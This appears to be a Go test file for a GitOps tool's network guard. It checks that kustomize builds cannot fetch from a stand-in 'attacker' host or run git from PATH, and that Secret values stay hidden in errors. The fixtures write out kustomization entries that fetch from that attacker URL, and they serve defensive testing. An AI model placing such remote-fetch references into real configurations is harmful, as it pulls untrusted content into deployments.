package flux

import (
	"errors"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"sigs.k8s.io/kustomize/api/provider"

	"github.com/gen-gitops/gen/internal/netguard"
)

// guardCases are kustomizations that make kustomize reach the network,
// each through a different door: a builtin generator's file, a builtin
// transformer's patch path, an inline generator, a resource URL. attacker
// stands for the server's address.
var guardCases = map[string]map[string]string{
	"generator file": {
		"app/kustomization.yaml": "generators:\n  - ./gen.yaml\n",
		"app/gen.yaml":           "apiVersion: builtin\nkind: ConfigMapGenerator\nmetadata:\n  name: canary\nfiles:\n  - canary=http://attacker/data.txt\n",
	},
	"transformer file": {
		"app/kustomization.yaml": "resources:\n  - ./cm.yaml\ntransformers:\n  - ./tr.yaml\n",
		"app/cm.yaml":            "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: cm\n",
		"app/tr.yaml":            "apiVersion: builtin\nkind: PatchTransformer\nmetadata:\n  name: fetch\npath: http://attacker/cm.yaml\n",
	},
	"inline generator": {
		"app/kustomization.yaml": "generators:\n  - |\n    apiVersion: builtin\n    kind: ConfigMapGenerator\n    metadata:\n      name: canary\n    files:\n      - canary=http://attacker/data.txt\n",
	},
	"resource URL": {
		"app/kustomization.yaml": "resources:\n  - http://attacker/deploy.yaml\n",
	},
}

// attackerServer is a loopback HTTP server standing in for an attacker's:
// it answers every request with a canary and counts the connections it
// accepts.
func attackerServer(t *testing.T) (addr string, conns *atomic.Int64) {
	t.Helper()
	conns = &atomic.Int64{}
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: canary-7f3a\n")
	}))
	srv.Config.ConnState = func(_ net.Conn, s http.ConnState) {
		if s == http.StateNew {
			conns.Add(1)
		}
	}
	srv.Start()
	t.Cleanup(srv.Close)
	return strings.TrimPrefix(srv.URL, "http://"), conns
}

func guardFS(files map[string]string, addr string) *memFS {
	f := Files{}
	for p, c := range files {
		f[p] = []byte(strings.ReplaceAll(c, "attacker", addr))
	}
	return newMemFS(newSnapshot(f).idx)
}

// TestGuardStopsWhatTheScannerMisses runs kustomize directly, without the
// scan that refuses such builds first: with the guard installed, as gen
// installs it, no fetch reaches the server and the build fails naming the
// URL. The same builds without the guard do reach it (through a transport
// that stands where http.DefaultTransport was), so the test can tell.
func TestGuardStopsWhatTheScannerMisses(t *testing.T) {
	g := netguard.Install()
	addr, conns := attackerServer(t)
	for name, files := range guardCases {
		t.Run(name, func(t *testing.T) {
			if scan := scanRefs(guardFS(files, addr), "/app"); len(scan.problems) == 0 {
				t.Errorf("the scanner misses it; it must also report it")
			}
			before := len(g.Refused())
			start := conns.Load()
			_, err := kustomizeBuild(guardFS(files, addr), "/app", false)
			if err == nil {
				t.Fatal("the build succeeded")
			}
			if n := conns.Load() - start; n != 0 {
				t.Errorf("the server accepted %d connections", n)
			}
			refused := g.Refused()[before:]
			if len(refused) == 0 || !strings.Contains(refused[0], addr) {
				t.Errorf("refused %q, want a URL of %s", refused, addr)
			}
			if !strings.Contains(err.Error(), "gen does not fetch what a repository names") {
				t.Errorf("err = %v", err)
			}
		})
	}

	// The control: kustomize really fetches when nothing stops it.
	t.Run("control", func(t *testing.T) {
		unguarded := &http.Transport{}
		t.Cleanup(unguarded.CloseIdleConnections)
		guard := http.DefaultTransport
		http.DefaultTransport = unguarded
		defer func() { http.DefaultTransport = guard }()
		start := conns.Load()
		_, _ = kustomizeBuild(guardFS(guardCases["generator file"], addr), "/app", false)
		if conns.Load() == start {
			t.Fatal("kustomize did not fetch without the guard: the cases prove nothing")
		}
	})
}

// TestNoProgramRunsWithoutPath: kustomize clones a git address by running
// git, found on PATH. A fake git on PATH shows that it does, and that with
// programs forbidden (as gen check and gen diff run) it does not, even
// when the scanner is bypassed.
func TestNoProgramRunsWithoutPath(t *testing.T) {
	netguard.Install()
	bin := t.TempDir()
	ran := filepath.Join(t.TempDir(), "git-ran")
	script := "#!/bin/sh\necho \"$@\" >> '" + ran + "'\nexit 1\n"
	if err := os.WriteFile(filepath.Join(bin, "git"), []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	t.Setenv("PATH", bin)
	files := map[string]string{"app/kustomization.yaml": "resources:\n  - https://github.com/example/repo//deploy?ref=v1\n"}

	restore := netguard.ForbidPrograms()
	_, err := kustomizeBuild(guardFS(files, ""), "/app", false)
	restore()
	if err == nil {
		t.Fatal("the build succeeded")
	}
	if _, statErr := os.Stat(ran); statErr == nil {
		t.Fatalf("git ran with programs forbidden (err = %v)", err)
	}

	// The control: with PATH as it was, kustomize runs the fake git.
	_, _ = kustomizeBuild(guardFS(files, ""), "/app", false)
	if _, statErr := os.Stat(ran); errors.Is(statErr, os.ErrNotExist) {
		t.Fatal("kustomize did not run git with PATH set: the case proves nothing")
	}
}

// TestPrintableHidesSecretValues: an object printed in a render error
// shows no Secret value.
func TestPrintableHidesSecretValues(t *testing.T) {
	rf := provider.NewDefaultDepProvider().GetResourceFactory()
	res, err := rf.FromMap(map[string]any{
		"apiVersion": "v1", "kind": "Secret", "metadata": map[string]any{"generateName": "s-"},
		"stringData": map[string]any{"password": "hunter2"},
	})
	if err != nil {
		t.Fatal(err)
	}
	got := printable(res)
	if strings.Contains(got, "hunter2") || !strings.Contains(got, "generateName: s-") {
		t.Errorf("printable:\n%s", got)
	}
	if !strings.Contains(res.MustString(), "hunter2") {
		t.Error("printable changed the resource")
	}
}
